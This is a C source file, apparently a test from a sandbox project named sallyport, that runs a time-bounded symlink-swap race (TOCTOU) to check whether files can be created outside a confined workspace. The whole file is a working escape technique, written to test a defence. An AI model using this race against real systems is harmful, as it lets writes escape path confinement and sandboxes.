// Copyright 2026 The sallyport Authors.
// SPDX-License-Identifier: Apache-2.0

// link_swap: attacks whoever resolves a path and lets the kernel resolve it again. A
// symbolic link is swapped between a folder inside and one outside, by rename, while
// files are created through it. Winning: a file appears outside. Bound: 2 seconds.
//
// usage: link_swap WORKSPACE OUTSIDE; makes the folder "swap" in the workspace.

#include "attack.h"

static char at[4096], next_in[4096], next_out[4096], in[4096];
static const char *out;

static void *swap(void *arg) {
	(void)arg;
	while (in_time()) {
		symlink(in, next_in);
		rename(next_in, at);
		symlink(out, next_out);
		rename(next_out, at);
	}
	return 0;
}

int main(int argc, char **argv) {
	if (argc != 3)
		return 2;
	char base[4000], through[4200], evil[4200];
	out = argv[2];
	snprintf(base, sizeof base, "%s/swap", argv[1]);
	mkdir(base, 0700);
	path2(in, sizeof in, base, "in");
	mkdir(in, 0700);
	path2(at, sizeof at, base, "at");
	path2(next_in, sizeof next_in, base, "next-in");
	path2(next_out, sizeof next_out, base, "next-out");
	path2(through, sizeof through, at, "won-link-swap");
	path2(evil, sizeof evil, out, "won-link-swap");
	begin();
	guard();
	pthread_t t;
	pthread_create(&t, 0, swap, 0);
	long tries = 0;
	int won = 0;
	for (; !won && in_time(); tries++) {
		int fd = open(through, O_CREAT | O_WRONLY, 0600);
		if (fd >= 0)
			close(fd);
		struct stat st;
		won = lstat(evil, &st) == 0;
	}
	verdict(won, tries, "link-swap");
}
